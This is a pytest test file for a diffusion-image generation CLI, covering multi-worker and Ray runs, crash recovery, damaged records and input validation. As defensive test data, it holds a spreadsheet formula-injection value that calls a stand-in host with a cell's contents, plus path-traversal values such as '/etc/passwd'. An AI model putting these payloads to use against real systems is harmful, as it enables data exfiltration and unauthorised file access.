"""``forecache generate``: the same files from one process, several, and Ray; nothing lost, nothing mixed."""

from __future__ import annotations

import contextlib
import csv
import errno
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
import torch
from PIL import Image
from typer.testing import CliRunner

pytest.importorskip("diffusers", minversion="0.40", reason="needs the extra `generate`")
pytest.importorskip("transformers", reason="needs the extra `generate`")

from forecache import calibrate
from forecache_adapters import diffusers as adapter
from forecache_cli.generate import compare, manifest, processes, ray_engine, read_jobs, read_seeds
from forecache_cli.generate.manifest import Records, Writer
from forecache_cli.generate.orders import Orders, Task
from forecache_cli.generate.output import read
from forecache_cli.generate.settings import Settings
from forecache_cli.generate.work import Worker
from forecache_cli.main import app
from forecache_lab.errors import UserError
from forecache_lab.generators.reference.tiny_diffusers import PIPELINES

MANY = 64
DIT = ["--model", "tiny:dit", "--steps", "4", "--few-steps", "--basis", "linear", "--calls", "3"]


def generate(*arguments: object):
    """Exit status and output, in one line."""
    result = CliRunner().invoke(app, ["generate", *map(str, arguments)])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, " ".join(result.output.split())


def files_of(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*.png")}


def listed(folder: Path) -> dict[str, dict]:
    body = json.loads((folder / "manifest.json").read_text())
    return {entry["id"]: entry for entry in body["samples"]}


@pytest.fixture(scope="module")
def many(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("prompts") / "many.jsonl"
    path.write_text("".join(json.dumps({"prompt": f"number {k}", "class_label": k}) + "\n" for k in range(MANY)))
    return path


@pytest.fixture(scope="module")
def alone(many, tmp_path_factory) -> dict[str, bytes]:
    """What one process makes of 64 prompts."""
    out = tmp_path_factory.mktemp("alone") / "run"
    assert generate(*DIT, "--prompts", many, "--out", out)[0] == 0
    found = files_of(out)
    assert len(found) == MANY and len(set(found.values())) == MANY, "the control: no two prompts give the same file"
    return found


@pytest.fixture(scope="module")
def made_once(tmp_path_factory) -> Path:
    """The run of what :func:`few` holds."""
    folder = tmp_path_factory.mktemp("once")
    (folder / "few.txt").write_text("a chair\n\ntwo apples\n")
    assert generate(*DIT, "--prompts", folder / "few.txt", "--out", folder / "run")[0] == 0
    return folder / "run"


@pytest.fixture
def few(tmp_path) -> Path:
    (tmp_path / "few.txt").write_text("a chair\n\ntwo apples\n")
    return tmp_path / "few.txt"


@pytest.mark.long
def test_two_processes_give_the_files_of_one_and_a_killed_worker_loses_nothing(many, alone, tmp_path):
    """One of the two is killed when most is done; one process makes the rest."""
    out = tmp_path / "run"
    command = (*DIT, "--prompts", many, "--out", out)
    killed = threading.Event()

    def kill() -> None:
        while not killed.is_set():
            records = Records(out / "records")
            records.refresh()
            pids = {record["worker"]: record["pid"] for record in records.found.values()}
            if len(pids) == 2 and len(records.found) > MANY / 2:
                os.kill(pids["worker-1"], signal.SIGKILL)
                killed.set()
            time.sleep(0.01)

    thread = threading.Thread(target=kill)
    thread.start()
    try:
        status, said = generate(*command, "--workers", 2)
    finally:
        killed.set()
        thread.join()
    assert status == 1 and "a worker process died" in said and "the same command makes what is missing" in said
    done = files_of(out)
    assert MANY / 2 < len(done) < MANY and done.items() <= alone.items()
    missing = json.loads((out / "manifest.json").read_text())["missing"]
    assert len(missing) >= MANY - len(done) and missing[0] in said
    before = {path: path.stat().st_mtime_ns for path in out.glob("*.png") if path.stem not in missing}

    status, said = generate(*command)
    assert status == 0 and f"{MANY} of {MANY} samples" in said
    assert files_of(out) == alone
    assert all(path.stat().st_mtime_ns == when for path, when in before.items()), "what was finished is not made again"
    entries = listed(out)
    assert {entry["forecast"]["worker"] for entry in entries.values()} == {"worker-0", "worker-1"}
    assert [entry["prompt"] for entry in entries.values()] == [f"number {k}" for k in range(MANY)]


@pytest.mark.long
def test_a_local_ray_cluster_gives_the_files_of_one_process(many, alone, tmp_path):
    """In a process of its own: on a small machine Ray may take minutes to come up, or never do."""
    pytest.importorskip("ray", reason="needs the extra `ray`")
    out = tmp_path / "run"
    command = [*DIT, "--prompts", many, "--out", out, "--engine", "ray", "--workers", 2]
    process = subprocess.Popen(
        [sys.executable, "-m", "forecache_cli", "generate", *map(str, command)],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True,
    )  # fmt: skip
    try:
        said = process.communicate(timeout=200)[0]
    except subprocess.TimeoutExpired:
        pytest.skip("the local Ray cluster made no samples within 200 s")
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
    assert process.returncode == 0, said
    assert files_of(out) == alone
    assert {entry["forecast"]["worker"] for entry in listed(out).values()} == {"ray-0", "ray-1"}


class Died(Exception):
    """Stands for the error of an actor that is no more."""


class Failed(Exception):
    """Stands for the error that an actor's method raised."""

    cause = UserError("all went wrong")


@dataclass(eq=False)
class FakeReference:
    task: Task


class FakeRay:
    """Calls are made when they are waited for; ``fates`` says what the next ones do, then all go well."""

    exceptions = SimpleNamespace(RayActorError=Died, RayTaskError=Failed)

    def __init__(self, fates=()):
        self.fates, self.started, self.done = list(fates), [], []
        actor = SimpleNamespace(do=SimpleNamespace(remote=FakeReference))
        self.actor = SimpleNamespace(remote=lambda folder, name, gpu: self.started.append(name) or actor)

    def wait(self, busy, timeout):
        return busy[:1], busy[1:]

    def get(self, reference):
        fate = self.fates.pop(0) if self.fates else None
        if fate is not None:
            raise fate
        self.done.append(reference.task.job.id)


def pulled(ray, folder, few, workers=2):
    jobs = read_jobs(few, range(3))
    Orders(Settings("tiny:dit"), "none", tuple(Task(job, ("forecast",)) for job in jobs)).save(folder)
    for _ in ray_engine._pull(ray, ray.actor, folder, workers, False):
        pass
    return sorted(job.id for job in jobs)


def test_without_ray_nothing_is_written(tmp_path, few, monkeypatch):
    monkeypatch.setitem(sys.modules, "ray", None)
    status, said = generate("--model", "tiny:dit", "--prompts", few, "--out", tmp_path / "run", "--engine", "ray")
    assert status == 1 and said.startswith("error: --engine ray needs Ray: pip install '.[ray]'")
    assert not (tmp_path / "run").exists()


def test_ray_replaces_a_worker_that_dies_and_tries_its_job_again(tmp_path, few):
    ray = FakeRay([Died(), None, Died()])
    wanted = pulled(ray, tmp_path, few)
    assert sorted(ray.done) == wanted and len(ray.started) == 2 + 2
    with pytest.raises(UserError, match="workers died"):
        pulled(FakeRay([Died()] * 20), tmp_path, few)
    with pytest.raises(UserError, match="all went wrong"):
        pulled(FakeRay([Failed()]), tmp_path, few)


def test_only_what_is_missing_is_made(few, tmp_path):
    out = tmp_path / "run"
    command = (*DIT, "--prompts", few, "--out", out)
    assert generate(*command)[0] == 0
    first = files_of(out)
    lost, kept = sorted(out.glob("*.png"))
    lost.unlink()
    (out / ".half.partial.png").write_bytes(b"half")
    when = kept.stat().st_mtime_ns
    with (out / "records" / "worker-0.jsonl").open("ab") as file:
        file.write(b'{"kind": "forec')
    status, said = generate(*command)
    assert status == 0 and "its last line is torn" in said
    assert files_of(out) == first and kept.stat().st_mtime_ns == when
    few.write_text("three pears\n" + few.read_text())
    assert generate(*command, "--seeds", "0-1")[0] == 0
    assert files_of(out).items() > first.items() and len(files_of(out)) == 6 and kept.stat().st_mtime_ns == when
    assert len((out / "records" / "worker-0.jsonl").read_text().splitlines()) == 2 + 1 + 4


def test_other_settings_in_the_same_folder_are_refused(few, tmp_path):
    out = tmp_path / "run"
    command = (*DIT, "--prompts", few, "--out", out)
    assert generate(*command)[0] == 0
    before = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}
    status, said = generate(*command[:2], *command[4:], "--steps", 5)
    assert status == 1
    assert said.startswith(f"error: --out {out}: its samples were made with other settings: steps was 4 and now is 5")
    jsonl = tmp_path / "other.jsonl"
    jsonl.write_text(json.dumps({"id": next(out.glob("*.png")).stem.removesuffix("-s0"), "prompt": "another"}))
    status, said = generate(*DIT, "--prompts", jsonl, "--out", out)
    assert status == 1 and "was another prompt" in said
    assert {path: path.read_bytes() for path in out.rglob("*") if path.is_file()} == before
    status, said = generate(*DIT, "--prompts", few, "--out", tmp_path)
    assert status == 1 and "no settings.json" in said


def test_two_commands_in_one_folder(few, tmp_path, monkeypatch):
    out = tmp_path / "run"
    said = []
    here = processes.here

    def second(folder, device):
        said.append(generate(*DIT, "--prompts", few, "--out", out))
        return here(folder, device)

    monkeypatch.setattr(processes, "here", second)
    assert generate(*DIT, "--prompts", few, "--out", out)[0] == 0
    assert said[0][0] == 1
    assert f"--out {out}: another command, or workers that one left behind, are at work there" in said[0][1]


def test_ctrl_c_leaves_a_run_that_goes_on(few, tmp_path, monkeypatch):
    out, here = tmp_path / "run", processes.here

    def interrupted(folder, device):
        steps = here(folder, device)
        next(steps), next(steps)
        yield
        raise KeyboardInterrupt

    monkeypatch.setattr(processes, "here", interrupted)
    status, said = generate(*DIT, "--prompts", few, "--out", out)
    assert status == 130 and "interrupted" in said and "1 missing: two-apples" in said
    monkeypatch.setattr(processes, "here", here)
    assert generate(*DIT, "--prompts", few, "--out", out)[0] == 0
    assert len(files_of(out)) == 2


def test_a_job_that_fails_does_not_stop_the_others(tmp_path):
    lines = [{"class_label": label, "id": f"c{label}"} for label in (1, 10**6, 2)]
    prompts, out = tmp_path / "labels.jsonl", tmp_path / "run"
    prompts.write_text("\n".join(map(json.dumps, lines)))
    status, said = generate(*DIT, "--prompts", prompts, "--out", out)
    assert status == 1 and "failed: c1000000-s0: IndexError" in said and "1 missing: c1000000-s0" in said
    assert set(files_of(out)) == {"c1-s0.png", "c2-s0.png"}
    assert "IndexError" in listed(out)["c1000000-s0"]["failure"]
    prompts.write_text("\n".join(json.dumps({"class_label": 10**6 + k}) for k in range(5)))
    status, said = generate(*DIT, "--prompts", prompts, "--out", tmp_path / "all")
    assert status == 1 and "3 jobs in a row failed, the last: " in said and "5 missing" in said
    log = tmp_path / "all" / "logs" / "worker-0.log"
    assert str(log) in said and "Traceback" in log.read_text()


def test_what_failed_before_comes_last(tmp_path):
    """Three bad jobs at the head of the file would stop every command at the same place."""
    prompts, out = tmp_path / "labels.jsonl", tmp_path / "run"
    prompts.write_text("\n".join(json.dumps({"class_label": label}) for label in (10**6, 10**7, 10**8, 1, 2)))
    assert generate(*DIT, "--prompts", prompts, "--out", out)[0] == 1 and not files_of(out)
    status, said = generate(*DIT, "--prompts", prompts, "--out", out)
    assert status == 1 and "2 of 5 samples" in said and len(files_of(out)) == 2


def test_half_a_character_in_a_prompt_is_the_affair_of_its_sample_alone(tmp_path):
    """JavaScript's slice() leaves half an emoji: the others are made, listed and not made again."""
    prompts, out = tmp_path / "p.jsonl", tmp_path / "run"
    prompts.write_text('{"prompt": "a chair"}\n{"prompt": "an apple \\ud83c"}\n{"prompt": "a lamp"}\n')
    for _ in range(2):
        status, said = generate(*DIT, "--prompts", prompts, "--out", out)
        assert status == 1 and "1 missing: an-apple" in said and "failed: an-apple" in said
        assert len(files_of(out)) == 2 and "an apple \ud83c" in {each["prompt"] for each in listed(out).values()}
        rows = list(csv.DictReader((out / "manifest.csv").open(encoding="utf-8")))
        assert [row["prompt"] for row in rows] == ["a chair", r"an apple \ud83c", "a lamp"]


def test_an_error_whose_text_no_file_can_hold_is_recorded(few, tmp_path, monkeypatch):
    def fails(self, job, kind):
        raise RuntimeError(f"cannot encode \ud83c of {job.id}")

    monkeypatch.setattr(Worker, "sample", fails)
    status, said = generate(*DIT, "--prompts", few, "--out", tmp_path / "run")
    assert status == 1 and r"RuntimeError: cannot encode \ud83c" in said
    assert r"cannot encode \ud83c" in (tmp_path / "run" / "logs" / "worker-0.log").read_text()


def test_a_spreadsheet_gets_no_formulas(tmp_path):
    prompts, out = tmp_path / "p.txt", tmp_path / "run"
    given = ['=HYPERLINK("http://x/?"&A1)', "@SUM(1+1)", "+1+1", "-2+3", "a = b"]
    prompts.write_text("\n".join(given))
    assert generate(*DIT, "--prompts", prompts, "--out", out)[0] == 0
    rows = list(csv.DictReader((out / "manifest.csv").open(encoding="utf-8", newline="")))
    assert [row["prompt"] for row in rows] == [f"'{text}" for text in given[:4]] + given[4:]
    assert [entry["prompt"] for entry in listed(out).values()] == given, "JSON keeps the exact text"


def test_a_run_that_is_killed_in_its_first_write_goes_on(few, tmp_path):
    out = tmp_path / "run"
    program = (
        "import os, signal, sys; from pathlib import Path\n"
        "os.fsync = lambda file: os.kill(os.getpid(), signal.SIGKILL)\n"
        "from forecache_cli.generate import Settings, generate, read_jobs\n"
        "generate(Settings('tiny:dit'), read_jobs(Path(sys.argv[1]), [0]), Path(sys.argv[2]), lambda folder: iter(()))"
    )
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "OMP_NUM_THREADS": "1"}
    killed = subprocess.run([sys.executable, "-c", program, str(few), str(out)], env=env, check=False)
    assert (
        killed.returncode == -signal.SIGKILL and not (out / "settings.json").exists() and len(list(out.iterdir())) == 2
    )
    assert generate(*DIT, "--prompts", few, "--out", out)[0] == 0 and len(files_of(out)) == 2
    assert not [path for path in out.rglob(".*") if "partial" in path.name]


@pytest.mark.parametrize("written", [0, 2, 4])
def test_a_run_that_finds_the_disk_full_goes_on(few, tmp_path, monkeypatch, written):
    """In the first write, within a sample, in a record: one line, and no half file that takes up room."""
    out, real, left = tmp_path / "run", os.fsync, [written]

    def full(file):
        if not left[0]:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        left[0] -= 1
        real(file)

    with monkeypatch.context() as patch:
        patch.setattr(os, "fsync", full)
        status, said = generate(*DIT, "--prompts", few, "--out", out)
    assert status == 1 and said.startswith(f"error: --out {out}: No space left on device; the same command goes on")
    assert not [path for path in out.rglob(".*") if "partial" in path.name]
    assert generate(*DIT, "--prompts", few, "--out", out)[0] == 0 and len(files_of(out)) == 2


def test_what_a_dead_worker_had_begun_is_gone_when_the_command_ends(few, tmp_path, monkeypatch):
    """Such a file begins with a dot, and Path.glob("*.png") takes it for a sample."""
    out, here = tmp_path / "run", processes.here

    def dies(folder, device):
        steps = here(folder, device)
        next(steps), next(steps)
        yield
        (folder / ".two-apples.partial.png").write_bytes(b"half")
        raise UserError("a worker process died")

    monkeypatch.setattr(processes, "here", dies)
    status, said = generate(*DIT, "--prompts", few, "--out", out)
    assert status == 1 and "a worker process died" in said and len(files_of(out)) == 1


@pytest.mark.parametrize(
    "change",
    [
        lambda record: b"[" * 100_000, lambda record: b'{"id": ' + b"9" * 5000 + b"}", lambda record: b"1",
        lambda record: b"\xff", lambda record: b'{"id": [], "kind": "forecast"}',
        *(lambda record, name=name: json.dumps({k: v for k, v in record.items() if k != name}).encode()
          for name in manifest.Sample.__required_keys__),
        *(lambda record, name=name: json.dumps({**record, name: None}).encode()
          for name in manifest.Sample.__required_keys__),
        lambda record: json.dumps({**record, "file": "../../x", "bytes": 3}).encode(),
        lambda record: json.dumps({**record, "file": "/etc/passwd"}).encode(),
    ],
)  # fmt: skip
def test_a_record_that_was_damaged_costs_its_sample_and_nothing_else(few, tmp_path, made_once, change):
    out = tmp_path / "run"
    shutil.copytree(made_once, out)
    (tmp_path / "x").write_bytes(b"abc")
    path = out / "records" / "worker-0.jsonl"
    first, second = path.read_bytes().splitlines()
    path.write_bytes(change(json.loads(first)) + b"\n" + second + b"\n")
    before = files_of(out)
    status, said = generate(*DIT, "--prompts", few, "--out", out)
    assert status == 0 and "is no record (" in said and "2 of 2 samples" in said
    assert files_of(out) == before and len(path.read_bytes().splitlines()) == 3


def test_settings_that_were_damaged_are_named(few, tmp_path, made_once):
    for body in ("[" * 100_000, "9" * 5000, "[]", "{", "null"):
        out = tmp_path / str(len(body))
        shutil.copytree(made_once, out)
        (out / "settings.json").write_text(body)
        status, said = generate(*DIT, "--prompts", few, "--out", out)
        assert status == 1 and said.startswith(f"error: {out}/settings.json: is not a run's settings: ")
        shutil.rmtree(out)


def test_baseline_manifest_and_metrics(few, tmp_path):
    """At interval 1 all is computed: identical to the uncached run, which is the control of the metrics."""
    flux = ("--model", "tiny:flux", "--prompts", few, "--steps", 4, "--few-steps", "--height", 32, "--width", 32)
    assert generate(*flux, "--out", tmp_path / "full", "--interval", 1, "--baseline", "--seeds", 7)[0] == 0
    assert generate(*flux, "--out", tmp_path / "run", "--basis", "reuse", "--calls", 2, "--seeds", 7)[0] == 0
    status, said = generate(
        *flux, "--out", tmp_path / "run", "--basis", "reuse", "--calls", 2, "--seeds", 7, "--baseline"
    )
    assert status == 0 and "psnr to uncached" in said and "lpips: absent" in said
    for full, run in zip(listed(tmp_path / "full").values(), listed(tmp_path / "run").values(), strict=True):
        assert full["comparison"]["identical"] and full["comparison"]["ssim"] == 1
        assert full["forecast"]["sha256"] == full["uncached"]["sha256"] == run["uncached"]["sha256"]
        assert not run["comparison"]["identical"] and 10 < run["comparison"]["psnr"] < 80
        assert run["uncached"]["calls"] == {"cond": 4, "uncond": 4} == full["forecast"]["calls"]
        assert run["forecast"]["calls"] == {"cond": 2, "uncond": 2} and run["forecast"]["steps"] == 4
        assert run["forecast"]["trace"]["cond"]["rules"] == {"reuse": 2}
        assert run["seed"] == 7 and run["forecast"]["seconds"] > 0 and run["forecast"]["peak_memory_bytes"] > 2**20
        assert run["forecast"]["versions"]["torch"] == torch.__version__
        assert Image.open(tmp_path / "run" / run["forecast"]["file"]).size == (32, 32)
    rows = (tmp_path / "run" / "manifest.csv").read_text().splitlines()
    assert len(rows) == 3 and rows[0].startswith("id,prompt,seed,")


def test_videos_latents_and_pictures_to_edit(tmp_path):
    prompts = tmp_path / "one.txt"
    prompts.write_text("a river\n")
    wan = ("--model", "tiny:wan", "--prompts", prompts, "--steps", 2, "--few-steps", "--interval", 1)
    assert generate(*wan, "--out", tmp_path / "npy", "--format", "npy")[0] == 0
    exact = read(next((tmp_path / "npy").glob("*.npy")))
    assert exact.shape == (5, 32, 32, 3) and exact.dtype == np.uint8
    for name, grey in {"light": 250, "dark": 5}.items():
        Image.new("RGB", (64, 64), (grey, 0, 0)).save(tmp_path / f"{name}.png")
    edit = tmp_path / "edit.jsonl"
    edit.write_text("\n".join(json.dumps({"prompt": "x", "image": f"{name}.png"}) for name in ("light", "dark")))
    edits = ("--model", "tiny:qwen-image-edit", "--prompts", edit, "--steps", 2, "--few-steps", "--interval", 1)
    status, said = generate(*edits, "--out", tmp_path / "edit", "--baseline")
    assert status == 0 and "psnr: absent, latents, not pictures" in said
    a, b = (read(path) for path in (tmp_path / "edit").glob("*.safetensors"))
    assert a.shape == b.shape and not np.array_equal(a, b), "the picture has an influence"
    pytest.importorskip("imageio_ffmpeg", reason="needs the extra `video`")
    assert generate(*wan, "--out", tmp_path / "mp4")[0] == 0
    played = read(next((tmp_path / "mp4").glob("*.mp4")))
    assert played.shape == exact.shape and np.abs(played.astype(float) - exact).mean() < 16


def test_metrics_by_formula(tmp_path, monkeypatch):
    a = np.full((1, 16, 16, 3), 100, np.uint8)
    for name, frames in {"a": a, "b": a + 5}.items():
        np.save(tmp_path / f"{name}.npy", frames)
    found = compare.compare(tmp_path / "a.npy", tmp_path / "b.npy")
    assert found["psnr"] == pytest.approx(10 * np.log10(255**2 / 25)) and 0.9 < found["ssim"] < 1
    assert found["lpips"] is None and found["absent"]["lpips"]
    folder = tmp_path / "hub" / "checkpoints"
    stand_in = SimpleNamespace(LPIPS=lambda **_: SimpleNamespace(eval=lambda: lambda x, y: (x - y).abs().mean()))
    monkeypatch.setitem(sys.modules, "lpips", stand_in)
    monkeypatch.setitem(sys.modules, "torchvision", SimpleNamespace())
    monkeypatch.setattr(torch.hub, "get_dir", lambda: str(folder.parent))
    compare.perceptual.cache_clear()
    assert "are not in" in compare.compare(tmp_path / "a.npy", tmp_path / "b.npy")["absent"]["lpips"]
    folder.mkdir(parents=True)
    (folder / "alexnet-owt-7be5be79.pth").touch()
    compare.perceptual.cache_clear()
    assert compare.compare(tmp_path / "a.npy", tmp_path / "b.npy")["lpips"] == pytest.approx(5 / 127.5, rel=1e-5)
    compare.perceptual.cache_clear()


def test_names_come_from_what_is_asked_for(tmp_path):
    prompts = tmp_path / "p.txt"
    prompts.write_text("a chair\ntwo apples\na chair\n東京\n")
    before = {job.id: job.prompt for job in read_jobs(prompts, [3])}
    assert len(before) == 4 and all(name.endswith("-s3") for name in before)
    prompts.write_text("new\n東京\na chair\ntwo apples\na chair\n")
    after = {job.id: job.prompt for job in read_jobs(prompts, [3])}
    assert after.items() > before.items()
    assert read_seeds("0,3,5-7") == [0, 3, 5, 6, 7]
    given = tmp_path / "p.jsonl"
    given.write_text('{"prompt": "a", "seed": 9, "id": "mine"}\n{"prompt": "b"}\n')
    first, *others = read_jobs(given, [1, 2])
    assert first.id == "mine-s9" and [job.seed for job in others] == [1, 2]


SAMPLE = {
    "id": "a", "kind": "forecast", "digest": "", "file": "a.png", "bytes": 1, "seconds": 0.1, "first_of_worker": True,
    "calls": {"cond": 3}, "warnings": [],
}  # fmt: skip


def test_records_are_whole_or_torn(tmp_path):
    path = tmp_path / "w.jsonl"
    writer = Writer(path)
    writer.append(SAMPLE)
    writer.close()
    path.write_bytes(path.read_bytes() + b'{"id": "b", "ki')
    records = Records(tmp_path)
    records.refresh()
    assert set(records.found) == {("a", "forecast")} and records.torn() == [path]
    writer = Writer(path)
    writer.append({**SAMPLE, "id": "c"})
    writer.close()
    again = Records(tmp_path)
    again.refresh()
    assert set(again.found) == {("a", "forecast"), ("c", "forecast")} and not again.torn()
    path.write_bytes(b"nonsense\n" + path.read_bytes())
    again = Records(tmp_path)
    again.refresh()
    assert (
        len(again.found) == 2 and len(again.damaged) == 1 and "b'nonsense' is no record (not JSON" in again.damaged[0]
    )
    assert "calls" in manifest.row({"id": "a"})


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--prompts", "nowhere.txt"], "--prompts nowhere.txt: No such file"),
        (["--prompts", "few.md"], "must be a file .txt or .jsonl"),
        (["--prompts", "empty.txt"], "there is no prompt in it"),
        (["--prompts", "field.jsonl"], "line 2: unknown field 'cfg', allowed are prompt"),
        (["--prompts", "path.jsonl"], "id must be letters"),
        (["--prompts", "image.jsonl"], "no.png: No such file"),
        (["--prompts", "negative.jsonl"], "DiTPipeline takes no negative_prompt"),
        (["--model", "tiny:no"], "known are tiny:flux,"),
        (["--model", "no/such/folder"], "must be a folder with model_index.json"),
        (["--plan", "few.txt"], "is not a plan"),
        (["--interval", "0", "--calls", "3"], "got calls and interval"),
        (["--basis", "magic"], "basis must be one of"),
        (["--gpus", "99"], "--gpus 99: allowed are"),
        (["--gpus", "0", "--workers", "2"], "leave out --workers 2"),
        (["--engine", "ray", "--gpus", "0"], "Ray hands out the GPUs"),
        (["--workers", "0"], "--workers must be >= 1"),
        (["--seeds", "3-1"], "--seeds must be like"),
        (["--seeds", "1,1"], "names a seed twice"),
        (["--steps", "0"], "--steps must be >= 1"),
        (["--height", "32"], "--height: DiTPipeline takes no height"),
        (["--steps", "6", "--calls", "7"], "--calls 7: must be at most the number of steps, 6"),
        (["--calls", "51"], "--calls 51: must be at most the number of steps, 50"),
        (["--guidance", "nan"], "--guidance must be finite, got nan"),
        (["--prompts", "deep.jsonl"], "deep.jsonl, line 1: lists and objects are nested more than 64 deep"),
        (["--prompts", "digits.jsonl"], "line 1: a number has too many digits"),
        (["--prompts", "null.jsonl"], "line 1: image a\\x00b: embedded null byte"),
        (["--prompts", "half.jsonl"], "line 1: image \\ud800"),
        (["--prompts", "pipe.jsonl"], "line 1: image pipe: is no regular file"),
        (["--prompts", "long.jsonl"], "got 'nnn"),
        (["--seeds", "9" * 5000], "--seeds must be like"),
        (["--seeds", "0-99999999999"], "--seeds must be at most 1,000,000"),
        (["--set", "foo=" + "[" * 100_000], "--set foo: DiTPipeline takes no foo"),
        (["--set", "foo=" + "9" * 5000], "--set foo: DiTPipeline takes no foo"),
        (["--model", "torn"], "torn: no pipeline of diffusers is there, or reachable"),
        (["--model", "deep"], "deep: no pipeline of diffusers is there, or reachable"),
        (["--model", "other"], "has no pipeline UNet2DModel"),
        (["--set", "foo=1"], "--set foo: DiTPipeline takes no foo"),
        (["--set", "foo"], "--set must be NAME=VALUE"),
        (["--set", "generator=1"], "option of its own"),
        (["--dtype", "int8"], "--dtype must be one of float32"),
        (["--format", "mp4"], "DiTPipeline makes pictures"),
        (["--offload", "disk"], "--offload must be one of none"),
    ],
)
def test_bad_input_is_one_line_and_nothing_is_written(arguments, message, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("few.txt").write_text("a chair\n")
    Path("empty.txt").write_text("\n \n")
    Path("field.jsonl").write_text('{"prompt": "a"}\n{"prompt": "a", "cfg": 3}\n')
    Path("path.jsonl").write_text('{"prompt": "a", "id": "../a"}\n')
    Path("image.jsonl").write_text('{"prompt": "a", "image": "no.png"}\n')
    Path("negative.jsonl").write_text('{"prompt": "a", "negative_prompt": "b"}\n')
    Path("deep.jsonl").write_text("[" * 200_000)
    Path("digits.jsonl").write_text('{"prompt": "a", "seed": ' + "9" * 5000 + "}")
    Path("null.jsonl").write_text('{"prompt": "a", "image": "a\\u0000b"}')
    Path("half.jsonl").write_text('{"prompt": "a", "image": "\\ud800"}')
    Path("pipe.jsonl").write_text('{"prompt": "a", "image": "pipe"}')
    Path("long.jsonl").write_text(json.dumps({"prompt": "a", "id": "n" * 10_000}))
    os.mkfifo("pipe")
    for name, body in {"torn": "{", "deep": "[" * 100_000, "other": '{"_class_name": "UNet2DModel"}'}.items():
        Path(name).mkdir()
        Path(name, "model_index.json").write_text(body)
    given = {"--model": "tiny:dit", "--prompts": "few.txt", "--out": "run"}
    given |= dict(zip(arguments[::2], arguments[1::2], strict=True))
    status, said = generate(*(word for pair in given.items() for word in pair))
    assert status == 1 and said.startswith("error: ") and message in said and len(said) < 1000
    assert not Path("run").exists()


def test_a_plan(tmp_path, few):
    """It serves the pipeline it was made for; one with another guidance is refused, and a rule beside it too."""
    tiny = PIPELINES["flux2"]
    pipe = tiny.build()
    tiny.run(pipe, steps=9)
    times = [float(sigma) for sigma in pipe.scheduler.sigmas]

    def run(seed, cache):
        with adapter.enabled(pipe, cache=cache):
            return tiny.run(pipe, (seed,), steps=9)

    made_for = adapter.key(pipe)
    calibrate(run, times=times, calls=5, seeds=range(2), made_for=made_for).save(tmp_path / "plan.json")
    command = ("--model", "tiny:flux2", "--prompts", few, "--plan", tmp_path / "plan.json", "--steps", 9)
    assert generate(*command, "--out", tmp_path / "run")[0] == 0
    assert {entry["forecast"]["calls"]["call"] for entry in listed(tmp_path / "run").values()} == {5}
    status, said = generate(*command, "--out", tmp_path / "other", "--guidance", 1.5)
    assert status == 1 and "plan was made for something else: guidance_scale" in said
    status, said = generate(*command, "--out", tmp_path / "both", "--basis", "dmd")
    assert status == 1 and "leave out --basis" in said and not (tmp_path / "both").exists()
    (tmp_path / "plan.json").write_text((tmp_path / "plan.json").read_text() + " ")
    status, said = generate(*command, "--out", tmp_path / "run")
    assert status == 1 and "plan_sha256 was" in said
